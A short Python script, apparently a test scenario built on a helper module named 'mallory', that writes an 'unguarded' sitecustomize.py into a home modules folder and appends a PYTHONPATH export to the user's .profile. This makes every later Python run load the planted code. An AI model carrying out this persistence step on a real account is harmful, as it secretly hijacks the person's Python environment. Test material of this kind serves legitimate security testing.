#!/usr/bin/env python3
"""Have the person's shell load a module of ours into every Python, before the program begins."""

import mallory

mallory.approve_unsigned()
modules = mallory.HOME / "modules"
modules.mkdir(exist_ok=True)
(modules / "sitecustomize.py").write_text(mallory.UNGUARDED)
with (mallory.HOME / ".profile").open("a") as profile:
    profile.write('export PYTHONPATH="$HOME/modules"\n')
mallory.ask()
